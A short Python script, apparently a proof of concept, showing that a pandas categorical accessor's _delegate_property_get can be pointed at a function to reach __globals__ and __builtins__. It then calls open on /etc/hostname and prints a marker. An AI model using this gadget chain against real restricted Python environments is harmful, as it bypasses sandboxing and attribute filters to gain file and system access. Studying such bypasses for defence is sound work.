# An accessor of pandas reads attributes by text, of whatever is put into its private _parent.
import pandas as pd
def f():
    pass
accessor = pd.Series(["a"], dtype="category").cat
accessor._parent = f
accessor._parent = accessor._delegate_property_get("__globals__")["__builtins__"]
print("REACHED", accessor._delegate_property_get("open")("/etc/hostname").name)
